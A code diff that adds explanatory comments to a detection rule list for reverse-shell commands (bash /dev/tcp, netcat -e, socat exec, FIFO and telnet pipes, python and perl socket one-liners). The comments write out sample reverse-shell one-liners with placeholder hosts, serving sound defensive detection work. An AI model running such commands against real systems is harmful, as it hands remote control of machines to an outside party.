@@ -897,15 +897,22 @@ SCHEMA: tuple[Key, ...] = (
         "patterns",
         "list",
         [
+            # bash's /dev/tcp redirections feeding a shell: `bash -i >& /dev/tcp/H/P 0>&1`,
+            # `exec 5<>/dev/tcp/H/P`; a port check `</dev/tcp/H/22` has neither `>&`, `<&` nor `<>`
             "dev-tcp: has=/dev/tcp/,/dev/udp/ has=>&,<&,<>",
+            # netcat handing a program to the connection: nc -e, ncat -c/--sh-exec, busybox nc -e
             "netcat-exec: prog=nc,ncat,netcat,nc.traditional,nc.openbsd,pwncat "
             "opt=e,c,--exec,--sh-exec,--lua-exec",
+            # socat connecting a network address to a program (a pty to a program is not one)
             "socat-exec: prog=socat has=exec:,system: has=tcp,udp,ssl,sctp,socks",
+            # a FIFO closing the loop: mkfifo f; cat f | sh -i 2>&1 | nc H P > f
             "fifo-pipe: has=mkfifo,mknod has=%20nc%20,|nc%20,/nc%20,ncat,netcat,telnet%20,"
             "s_client,socat%20 has=/sh,sh%20-i,bash,|sh,|%20sh",
+            # telnet H P | /bin/sh | telnet H P2
             "telnet-pipe: has=telnet%20 has=|sh,|%20sh,|/bin/sh,|%20/bin/sh,|bash,|%20bash,"
             "|/bin/bash,|%20/bin/bash",
             "awk-inet: prog=awk,gawk has=/inet/tcp/,/inet/udp/,/inet4/tcp/,/inet6/tcp/",
+            # one-liners that open a socket and hand it to a shell
             "python-socket: prog=python* opt=c has=socket has=pty.spawn,subprocess,dup2,"
             "os.exec,popen,os.system",
             "perl-socket: prog=perl* opt=e,E has=socket has=exec,system,dup2,fdopen,open(stdin",
